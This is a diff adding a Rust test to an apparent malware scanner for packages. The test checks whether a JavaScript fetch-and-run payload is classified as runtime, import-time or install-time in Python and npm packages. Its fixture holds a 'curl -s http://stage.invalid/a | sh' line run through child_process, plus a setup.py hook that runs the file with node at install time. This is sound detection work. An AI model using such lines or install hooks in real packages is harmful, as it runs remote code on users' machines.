@@ -751,6 +751,65 @@ mod package {
     }
 
     #[test]
+    fn javascript_in_a_python_distribution_runs_in_the_browser_not_on_import() {
+        let js = "const cp = require('child_process');\ncp.execSync('curl -s http://stage.invalid/a | sh');\n";
+        let pypi = analyse(
+            "demo-1.0.tar.gz",
+            "demo-1.0/",
+            &[
+                (
+                    "PKG-INFO",
+                    "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+                ),
+                ("demo/__init__.py", "VERSION = '1.0'\n"),
+                ("demo/static/app.js", js),
+            ],
+        );
+        assert_eq!(
+            found(&pypi, "demo/static/app.js", K::DownloadExecute),
+            Some(Context::Runtime),
+            "{:?}",
+            pypi.behaviours
+        );
+        // The same file is the entry of an npm package: it runs when required.
+        let npm = npm(&[
+            (
+                "package.json",
+                r#"{"name":"demo","version":"1.0.0","main":"static/app.js"}"#,
+            ),
+            ("static/app.js", js),
+        ]);
+        assert_eq!(
+            found(&npm, "static/app.js", K::DownloadExecute),
+            Some(Context::Import),
+            "{:?}",
+            npm.behaviours
+        );
+        // setup.py that runs it with node runs it at install time.
+        let run = analyse(
+            "demo-1.0.tar.gz",
+            "demo-1.0/",
+            &[
+                (
+                    "PKG-INFO",
+                    "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+                ),
+                (
+                    "setup.py",
+                    "import subprocess\nfrom setuptools import setup\nsubprocess.run(['node', 'demo/static/app.js'])\nsetup(name='demo')\n",
+                ),
+                ("demo/static/app.js", js),
+            ],
+        );
+        assert_eq!(
+            found(&run, "demo/static/app.js", K::DownloadExecute),
+            Some(Context::Install),
+            "{:?}",
+            run.behaviours
+        );
+    }
+
+    #[test]
     fn binding_gyp_commands_and_scripts() {
         let a = npm(&[
             (
